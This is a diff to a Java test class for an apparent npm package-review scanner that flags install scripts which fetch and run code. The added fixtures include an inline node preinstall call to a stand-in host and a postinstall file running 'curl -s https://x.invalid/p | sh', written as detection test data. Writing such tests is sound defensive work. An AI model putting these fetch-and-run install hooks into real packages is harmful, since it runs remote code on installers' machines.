@@ -91,9 +91,39 @@ class InstallScriptsTest {
     @Test
     void inlineNodeCodeInAnInstallScriptIsHigh() {
         Findings f =
-                review(LIB, LIB.next("1.0.1").script("preinstall", "node -e \"require('./x')\""));
+                review(
+                        LIB,
+                        LIB.next("1.0.1")
+                                .script(
+                                        "preinstall",
+                                        "node -e \"require('https').get('https://x.invalid/a')\""));
 
         assertThat(the(f, "install-script-fetches-and-runs").severity()).isEqualTo(Severity.HIGH);
+    }
+
+    @Test
+    void inlineNodeThatOnlyRequiresALocalFileIsJudgedByThatFile() {
+        // es5-ext: node -e "try{require('./_postinstall')}catch(e){}"
+        Pkg quiet =
+                LIB.next("1.0.1")
+                        .script(
+                                "postinstall",
+                                "node -e \"try{require('./_postinstall')}catch(e){}\"")
+                        .file("_postinstall.js", "console.log('thanks for installing');\n");
+        assertThat(find(review(LIB, quiet), "install-script-fetches-and-runs")).isEmpty();
+
+        Pkg fetching =
+                quiet.next("1.0.2")
+                        .file(
+                                "_postinstall.js",
+                                "const { execSync } = require('child_process');\n"
+                                        + "execSync('curl -s https://x.invalid/p | sh');\n");
+        assertThat(
+                        the(review(LIB, fetching), "install-downloads-executable")
+                                .evidence()
+                                .get(0)
+                                .file())
+                .isEqualTo("_postinstall.js");
     }
 
     @Test
